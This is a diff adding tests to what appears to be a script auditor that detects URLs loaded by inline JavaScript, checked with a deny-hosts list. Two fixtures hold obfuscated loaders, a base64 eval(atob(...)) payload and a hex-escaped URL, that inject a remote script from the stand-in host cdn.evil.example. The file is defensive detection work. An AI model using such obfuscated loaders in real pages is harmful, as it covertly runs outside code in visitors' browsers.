@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 
 import pytest
@@ -472,6 +473,32 @@ def test_a_loader_written_as_scripts_escape_or_split_it_is_a_request(script: str
     assert "\\" not in url
 
 
+@pytest.mark.parametrize("script", [
+    # the URL named by a plain literal too, then loaded by the code base64 hides
+    'var home = "https://cdn.evil.example/p"; eval(atob("' + base64.b64encode(
+        b"var s=document.createElement('script');s.src='https://cdn.evil.example/p';"
+        b"document.head.appendChild(s);").decode() + '"));',
+    # every character escaped, loaded through a variable the decoder follows to `s.src`
+    'var u = "' + "".join(f"\\x{ord(c):02x}" for c in "https://cdn.evil.example/p")
+    + '"; var s = document.createElement("script"); s.src = u;',
+])
+def test_a_url_a_literal_only_names_is_loaded_where_the_decoder_shows_it(script: str) -> None:
+    """A literal that names a URL without loading it must not hide the request the
+    decoder finds for the same URL (both pages passed `deny_hosts` for a while)."""
+    page = parse_page(f"<script>{script}</script>")
+    loaded = [(f.url, f.type) for f in walk(page.root, BASE, page) if f.assigned]
+    assert ("https://cdn.evil.example/p", T.SCRIPT) in loaded
+
+
+def test_an_address_in_markup_a_script_writes_is_read_as_markup() -> None:
+    """`&amp;` in the markup a script writes (an app state's article HTML) is the `&` a
+    browser requests; in a call's literal it is what the call sends."""
+    assert found("<script>document.write('<iframe src=\"https://x.test/e?a=1&amp;b=2\">"
+                 "</iframe>'); fetch('https://x.test/f?a=1&amp;b=2')</script>") == [
+        ("https://x.test/e?a=1&b=2", T.SUBDOCUMENT, "inline-script"),
+        ("https://x.test/f?a=1&amp;b=2", T.XMLHTTPREQUEST, "inline-script")]
+
+
 def test_an_escaped_loader_is_found_once_with_the_decoder_reading_the_script_too() -> None:
     """A script escaping many characters is read by the decoder as well: the URL its
     literal names once its escapes are read is one request, not two."""
@@ -591,6 +618,25 @@ def test_many_unclosed_css_comments_cost_linear_time() -> None:
         return time.perf_counter() - start
 
     small, large = seconds(20_000), seconds(80_000)
+    assert large < 10 * max(small, 0.01), (small, large)
+
+
+def test_many_literals_after_from_and_reversed_strings_cost_linear_time() -> None:
+    """A reversed literal's opening quote is looked for no further back than a literal
+    may open (each looked back to the script's start: 86 ms for 500 KB of tails), and an
+    `import … from` back to its `import` only."""
+    import time
+
+    from auditor.dom.deobfuscate import decode_script
+    from auditor.dom.inline_js import loaded_urls
+
+    def seconds(n: int) -> float:
+        start = time.perf_counter()
+        assert len(list(loaded_urls("from'https://a.example.com/c'," * n))) == n
+        decode_script('a".split("").reverse().join("")' * n)
+        return time.perf_counter() - start
+
+    small, large = seconds(5_000), seconds(20_000)
     assert large < 10 * max(small, 0.01), (small, large)
 
 
